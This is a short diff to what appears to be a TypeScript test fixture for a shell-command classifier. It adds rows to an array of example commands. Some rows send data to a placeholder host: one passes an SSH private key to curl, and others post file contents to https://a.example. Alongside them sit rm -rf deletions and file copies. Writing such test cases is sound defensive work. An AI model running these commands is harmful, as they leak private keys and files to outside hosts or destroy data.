@@ -248,6 +248,14 @@ const SENT: readonly Row[] = [
 ];
 
 const BESIDE_IT: readonly Row[] = [
+  "curl --key ~/.ssh/id_rsa https://a.example",
+  "curl --variable x@notes.txt --expand-data '{{x}}' https://a.example",
+  "cmake -E remove_directory build",
+  "dcfldd if=a of=b.img",
+  'read -r line < plain.txt; curl -d "$line" https://a.example',
+  "kubectl cp notes.txt pod:/tmp/x",
+  "python3 -m http.server -d dist",
+  "pushd build; rm -rf x; popd",
   "rm -rf ./build",
   "rm -rf node_modules",
   "rm -rf /tmp/x /tmp/y/*",
